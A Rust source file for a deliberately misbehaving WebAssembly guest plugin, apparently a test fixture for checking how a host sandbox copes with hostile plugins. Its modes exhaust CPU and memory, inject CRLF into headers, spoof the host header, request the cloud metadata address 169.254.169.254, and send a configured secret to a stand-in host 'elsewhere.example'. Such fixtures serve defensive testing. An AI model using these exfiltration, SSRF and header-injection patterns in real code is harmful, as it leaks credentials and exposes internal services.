//! A guest that misbehaves. Its setting `mode` says how; it does so for the events named "Culprit",
//! or with `always-` before the mode for every event, and plans one honest request for all others. It uses the bare contract, since the SDK
//! would keep it from most of this.

#[expect(unsafe_code, reason = "the generated glue of the contract's ABI")]
mod contract {
    wit_bindgen::generate!({
        path: "../../../wit/1.0.0",
        world: "judging-destination",
    });

    use super::Hostile;
    export!(Hostile);
}

use std::cell::RefCell;
use std::hint::black_box;

use contract::exports::switchyard::destination::judge::Guest as Judge;
use contract::exports::switchyard::destination::planner::{Event, Guest, Plan};
use contract::switchyard::destination::types::{Auth, Fate, Judgement, Request, Response, Verdict};

/// Marks the requests whose answers the judge misreads.
const CULPRIT_TAG: &[u8] = b"culprit";

/// The letter at the end makes a revision: tests change it in the built file.
static REVISION: [u8; 18] = *b"hostile-revision-A";

/// Of requests, in mode `million`.
const MILLION: u32 = 1_000_000;

/// In mode `too-many`: just beyond what the host takes in one plan.
const TOO_MANY: u32 = 10_001;

/// In mode `huge`: more than the host takes from a guest, less than the guest's memory.
const HUGE_BYTES: usize = 40 << 20;

/// In mode `gigabyte`: so many requests with the same body, a gigabyte together.
const BODIES: usize = 64;
const BODY_BYTES: usize = 16 << 20;

struct Hostile;

#[derive(Clone)]
struct Settings {
    mode: String,
    endpoint: String,
    /// The handle of a secret.
    secret: String,
}

thread_local! {
    static SETTINGS: RefCell<Settings> =
        const { RefCell::new(Settings { mode: String::new(), endpoint: String::new(), secret: String::new() }) };
}

impl Guest for Hostile {
    fn configure(settings_json: String) -> Result<(), String> {
        match revision() {
            b'S' => spin(),
            b'R' => return Err("this revision wants no settings at all".to_string()),
            b'T' => trap(),
            _ => {}
        }
        let setting = |name: &str| text_after(&settings_json, &format!("\"{name}\":\""));
        let mode = setting("mode").ok_or("mode: say how to misbehave, such as spin")?;
        let endpoint = setting("endpoint").ok_or("endpoint: give a URL")?;
        let secret = setting("secret").unwrap_or_default();
        SETTINGS.with_borrow_mut(|settings| *settings = Settings { mode, endpoint, secret });
        Ok(())
    }

    fn plan_batch(_now_ms: u64, events: Vec<Event>) -> Result<Plan, String> {
        // Some revisions are bad at every event, whatever the mode is.
        match revision() {
            b'P' => trap(),
            b'Q' => spin(),
            b'E' => return Err("this revision plans nothing".to_string()),
            b'J' => return Ok(Plan { requests: Vec::new(), fates: all_rejected(events.len()) }),
            _ => {}
        }
        let settings = SETTINGS.with_borrow(Settings::clone);
        let mode = &settings.mode;
        let mut plan = Plan { requests: Vec::new(), fates: Vec::new() };
        for (position, event) in (0..).zip(&events) {
            let honest = honest(&settings.endpoint, position, event);
            let always = mode.strip_prefix("always-");
            if always.is_some() || is_culprit(event) {
                misbehave(always.unwrap_or(mode), &settings.secret, position, honest, &mut plan)?;
            } else {
                plan.requests.push(honest);
            }
        }
        Ok(plan)
    }
}

impl Judge for Hostile {
    fn judge_response(_now_ms: u64, response: Response) -> Judgement {
        let mut judgement = Judgement {
            verdicts: Vec::new(),
            follow_ups: Vec::new(),
            slow_until_ms: None,
            slow_quota_until_ms: None,
            pause: None,
            split: false,
        };
        // Some revisions misread every answer, whatever the mode is.
        match revision() {
            b'K' => trap(),
            b'L' => spin(),
            b'M' => judgement.verdicts.push((u32::MAX, Verdict::Delivered)),
            _ => {}
        }
        if response.tag == CULPRIT_TAG {
            let settings = SETTINGS.with_borrow(Settings::clone);
            misjudge(&settings, response.covers, &mut judgement);
        }
        judgement
    }
}

fn misjudge(settings: &Settings, covers: Vec<u32>, judgement: &mut Judgement) {
    let event = covers[0];
    let rejected = |reason: &str| Verdict::Reject(reason.to_string());
    let follow_up =
        || Request { covers: covers.clone(), tag: CULPRIT_TAG.to_vec(), ..request(&settings.endpoint, b"{}") };
    match settings.mode.as_str() {
        "judge-spin" => spin(),
        "judge-trap" => trap(),
        "judge-grow" => grow(),
        "judge-recurse" => {
            recurse(1);
        }
        "judge-range" => judgement.verdicts.push((u32::MAX, rejected("of no event"))),
        "judge-twice" => judgement.verdicts.extend([(event, Verdict::Delivered), (event, Verdict::AuthExpired)]),
        "judge-million" => judgement.verdicts.extend((0..MILLION).map(|_| (event, rejected("once more")))),
        "judge-huge" => judgement.verdicts.push((event, Verdict::Reject(" ".repeat(HUGE_BYTES)))),
        "judge-huge-pause" => judgement.pause = Some(" ".repeat(HUGE_BYTES)),
        "judge-gigabyte" => {
            let body = Box::leak(vec![b' '; BODY_BYTES].into_boxed_slice());
            judgement.follow_ups.extend((0..BODIES).map(|_| Request { body: once_more(body), ..follow_up() }));
        }
        "judge-follow-ups" => judgement.follow_ups.push(follow_up()),
        "judge-too-many" => {
            judgement.follow_ups.extend((0..TOO_MANY).map(|_| Request { body: Vec::new(), ..follow_up() }))
        }
        "judge-follow-range" => judgement.follow_ups.push(Request { covers: vec![u32::MAX], ..follow_up() }),
        "judge-follow-url" => judgement.follow_ups.push(Request { url: "no url at all".to_string(), ..follow_up() }),
        "judge-follow-elsewhere" => judgement.follow_ups.push(Request {
            url: "https://elsewhere.example/collect".to_string(),
            auth: vec![Auth::Bearer(settings.secret.clone())],
            ..follow_up()
        }),
        _ => {}
    }
}

fn revision() -> u8 {
    black_box(&REVISION)[REVISION.len() - 1]
}

fn all_rejected(events: usize) -> Vec<(u32, Fate)> {
    (0..).take(events).map(|position| (position, Fate::Reject("this revision wants none".to_string()))).collect()
}

fn is_culprit(event: &Event) -> bool {
    let sign = b"\"event\":\"Culprit\"";
    event.json.windows(sign.len()).any(|window| window == sign)
}

fn honest(endpoint: &str, position: u32, event: &Event) -> Request {
    Request { covers: vec![position], ..request(endpoint, &event.json) }
}

fn request(endpoint: &str, body: &[u8]) -> Request {
    Request {
        key: "event".to_string(),
        method: "POST".to_string(),
        url: endpoint.to_string(),
        headers: vec![
            ("content-type".to_string(), "application/json".to_string()),
            ("x-revision".to_string(), char::from(revision()).to_string()),
        ],
        body: body.to_vec(),
        auth: Vec::new(),
        covers: Vec::new(),
        lanes: Vec::new(),
        quota: None,
        not_after_ms: None,
        tag: Vec::new(),
    }
}

fn misbehave(mode: &str, secret: &str, position: u32, mut request: Request, plan: &mut Plan) -> Result<(), String> {
    let skip = || (position, Fate::Skip("skipped".to_string()));
    let header = |name: &str, value: &str| (name.to_string(), value.to_string());
    match mode {
        "spin" => spin(),
        "recurse" => {
            recurse(1);
        }
        "grow" => grow(),
        "trap" => trap(),
        "error" => return Err("this batch is not to my liking".to_string()),
        "million" => plan.requests.extend((0..MILLION).map(|_| Request { body: Vec::new(), ..request.clone() })),
        "too-many" => plan.requests.extend((0..TOO_MANY).map(|_| Request { body: Vec::new(), ..request.clone() })),
        "huge" => plan.requests.push(Request { body: vec![b' '; HUGE_BYTES], ..request }),
        "gigabyte" => {
            let body = Box::leak(vec![b' '; BODY_BYTES].into_boxed_slice());
            plan.requests.extend((0..BODIES).map(|_| Request { body: once_more(body), ..request.clone() }));
        }
        "range" => plan.requests.push(Request { covers: vec![u32::MAX], ..request }),
        "covers-twice" => plan.requests.push(Request { covers: vec![position, position], ..request }),
        "fate-range" => {
            plan.requests.push(request);
            plan.fates.push((u32::MAX, Fate::Skip("of no event".to_string())));
        }
        "left-out" => {}
        "both" => {
            plan.requests.push(request);
            plan.fates.push(skip());
        }
        "two-fates" => plan.fates.extend([skip(), (position, Fate::Reject("rejected".to_string()))]),
        "newline" => {
            request.headers.push(header("x-note", "one\r\nx-evil: two"));
            plan.requests.push(request);
        }
        "host-header" => {
            request.headers.push(header("host", "elsewhere.example"));
            request.headers.push(header("content-length", "1"));
            plan.requests.push(request);
        }
        "elsewhere" => plan.requests.push(Request { url: "https://elsewhere.example/collect".to_string(), ..request }),
        "link-local" => plan.requests.push(Request { url: "http://169.254.169.254/latest".to_string(), ..request }),
        "user-info" => {
            let url = request.url.replacen("://", "://name:word@", 1);
            plan.requests.push(Request { url, ..request });
        }
        "secret-in-path" => plan.requests.push(Request { url: format!("{}/{secret}", request.url), ..request }),
        "secret-in-header" => {
            request.headers.push(header("x-note", secret));
            plan.requests.push(request);
        }
        "secret-elsewhere" => plan.requests.push(Request {
            url: "https://elsewhere.example/collect".to_string(),
            auth: vec![Auth::Bearer(secret.to_string())],
            ..request
        }),
        "nonsense-url" => plan.requests.push(Request { url: "no url at all \u{7f}".to_string(), ..request }),
        "nonsense-method" => plan.requests.push(Request { method: "GO AWAY\r\n".to_string(), ..request }),
        _ => plan.requests.push(Request { tag: CULPRIT_TAG.to_vec(), ..request }),
    }
    Ok(())
}

/// The same bytes as those of others: what the guest has once, the host would copy each time. Nobody
/// frees them, since the host takes no such plan.
#[expect(unsafe_code, reason = "two owners of the same bytes are what this guest is hostile by")]
fn once_more(body: &mut [u8]) -> Vec<u8> {
    // SAFETY: the bytes were leaked by a vector of this length. All owners are handed to the host, which
    // ends the instance instead of handing them back.
    unsafe { Vec::from_raw_parts(body.as_mut_ptr(), body.len(), body.len()) }
}

fn spin() -> ! {
    let mut turns = 0_u64;
    loop {
        turns = black_box(turns.wrapping_add(1));
    }
}

fn trap() -> ! {
    panic!("on purpose")
}

fn recurse(depth: u64) -> u64 {
    let frame = black_box([depth; 64]);
    let below = if black_box(depth) == 0 { 0 } else { recurse(depth + 1) };
    black_box(frame)[0] + below
}

fn grow() {
    let mut kept: Vec<Vec<u8>> = Vec::new();
    loop {
        kept.push(black_box(vec![1; 1 << 20]));
    }
}

/// The text between `start` and the next quote.
fn text_after(json: &str, start: &str) -> Option<String> {
    let rest = &json[json.find(start)? + start.len()..];
    Some(rest[..rest.find('"')?].to_string())
}
